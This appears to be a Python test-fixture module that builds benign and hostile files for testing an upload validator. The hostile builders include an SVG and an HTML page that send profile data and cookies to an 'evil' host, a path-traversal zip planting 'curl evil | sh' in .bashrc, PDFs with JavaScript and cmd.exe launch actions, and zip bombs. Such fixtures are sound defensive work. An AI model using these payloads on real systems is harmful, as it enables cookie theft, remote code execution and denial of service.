"""Files for the upload tests, good and hostile, built in code rather than committed as binaries:
each builder says what the file is and why it is dangerous. Sizes are kept small except where the
size is the point (the zip bomb unpacks to 50 MB but is written in chunks and weighs ~50 KB)."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image

# --- good files -------------------------------------------------------------------------------


@functools.cache
def pdf() -> bytes:
    """A small real PDF, made with WeasyPrint (Persian text, so a font is embedded)."""
    import weasyprint

    return weasyprint.HTML(string='<p dir="rtl">سند آزمایشی</p>').write_pdf()


def png(width: int = 40, height: int = 30, colour: str = "teal") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg(width: int = 40, height: int = 30) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "navy").save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def tiff(width: int = 40, height: int = 30) -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (width, height), 128).save(buffer, "TIFF")
    return buffer.getvalue()


def zip_of(files: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def padded_pdf(size: int) -> bytes:
    """A PDF of exactly `size` bytes: the real one with a comment line after its header."""
    body = pdf()
    header_end = body.index(b"\n") + 1
    padding = size - len(body) - 2
    assert padding >= 0
    return body[:header_end] + b"%" + b"x" * padding + b"\n" + body[header_end:]


# --- hostile files ----------------------------------------------------------------------------


def exe() -> bytes:
    """The start of a Windows program (what `anything.pdf` may really be)."""
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
    return stub + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 200


def docx() -> bytes:
    """A Word document: a ZIP archive with the OOXML parts libmagic recognises."""
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document/>',
        },
        compression=zipfile.ZIP_STORED,
    )


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('/accounts/profile/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
        b"</script><rect width='10' height='10'/></svg>"
    )


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>document.location='//evil/?c='+document.cookie</script></body></html>"


def jpeg_with_zip() -> bytes:
    """A photo that is also a ZIP archive: ZIP readers look for the archive at the end."""
    return jpeg() + zip_of({"payload.html": html_page()})


def pdf_with_html_appended() -> bytes:
    """A PDF that a browser sniffing the tail, or a careless viewer, treats as a web page."""
    return pdf() + b"\n<html><script>alert(document.domain)</script></html>\n"


def pdf_with_script_in_head() -> bytes:
    body = pdf()
    header_end = body.index(b"\n") + 1
    return body[:header_end] + b"%<script>alert(1)</script>\n" + body[header_end:]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_html() -> bytes:
    """A valid PNG with a text chunk (CRC correct) that is an HTML page with a script."""
    image = png()
    after_ihdr = 8 + 25
    text = _chunk(b"tEXt", b"Comment\x00<html><body><script>alert(document.cookie)</script></body></html>")
    return image[:after_ihdr] + text + image[after_ihdr:]


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares `width` × `height` (a decompression bomb's first step)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    """The real JPEG with its frame header rewritten to declare `width` × `height`."""
    data = bytearray(jpeg())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def zip_bomb(unpacked_mb: int = 50) -> bytes:
    """One entry of `unpacked_mb` MB of zeros: deflate squeezes it about a thousand times."""
    buffer = io.BytesIO()
    zero_mb = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.bin", "w", force_zip64=False) as entry,
    ):
        for _ in range(unpacked_mb):
            entry.write(zero_mb)
    return buffer.getvalue()


def zip_many_entries(count: int) -> bytes:
    return zip_of({f"f{index}.txt": b"x" for index in range(count)}, compression=zipfile.ZIP_STORED)


def zip_overlapping(copies: int = 3) -> bytes:
    """The "better zip bomb" shape: several directory entries pointing at one compressed block."""
    data = zip_of({"a.bin": b"\x00" * 4096})
    eocd = data.rindex(b"PK\x05\x06")
    directory_size, directory_offset = struct.unpack("<II", data[eocd + 12 : eocd + 20])
    directory = data[directory_offset : directory_offset + directory_size]
    copied = b"".join(directory.replace(b"a.bin", b"%d.bin" % index) for index in range(copies))
    end = (
        data[eocd : eocd + 8]
        + struct.pack("<HHII", copies, copies, len(copied), directory_offset)
        + data[eocd + 20 :]
    )
    return data[:directory_offset] + copied + end


def zip_nested() -> bytes:
    return zip_of({"plans/inner.zip": zip_of({"a.txt": b"hello"}), "readme.txt": b"see inner"})


def zip_nested_disguised() -> bytes:
    """An inner archive under an innocent name: found by its signature."""
    return zip_of({"drawing.dwg": zip_of({"a.txt": b"hello"})}, compression=zipfile.ZIP_STORED)


def zip_encrypted() -> bytes:
    """A stored entry marked encrypted (general-purpose flag bit 0) in both headers."""
    data = bytearray(zip_of({"secret.txt": b"hello"}, compression=zipfile.ZIP_STORED))
    local = data.index(b"PK\x03\x04")
    central = data.index(b"PK\x01\x02")
    data[local + 6] |= 0x01
    data[central + 8] |= 0x01
    return bytes(data)


def zip_path_traversal() -> bytes:
    return zip_of({"../../../home/clerk/.bashrc": b"curl evil | sh"})


def _pdf(objects: list[bytes]) -> bytes:
    """A hand-made PDF from object bodies (object i+1 is objects[i]), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


_PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
]


def pdf_with_javascript() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES,
            b"<< /S /JavaScript /JS (app.alert('hi')) >>",
        ]
    )


def pdf_with_escaped_javascript() -> bytes:
    """/JavaScript spelt with a #xx escape, which every viewer decodes."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES,
            b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
        ]
    )


def pdf_with_launch() -> bytes:
    return _pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES, b"<< /S /Launch /F (cmd.exe) >>"]
    )


def pdf_with_embedded_file() -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
            *_PAGES,
            b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ]
    )


def _object_stream(inner: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(b"4 0 " + inner)
    return (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode%s /Length %d >>\nstream\n"
        % (extra, len(packed))
        + packed
        + b"\nendstream"
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """The action dictionary compressed inside an object stream, out of sight of a plain search."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES,
            _object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        ]
    )


def pdf_with_predictor_object_stream() -> bytes:
    """An object stream behind a predictor, which scrambles the bytes a search would read."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            *_PAGES,
            _object_stream(b"<< /A 1 >>", b" /DecodeParms << /Predictor 12 /Columns 4 >>"),
        ]
    )
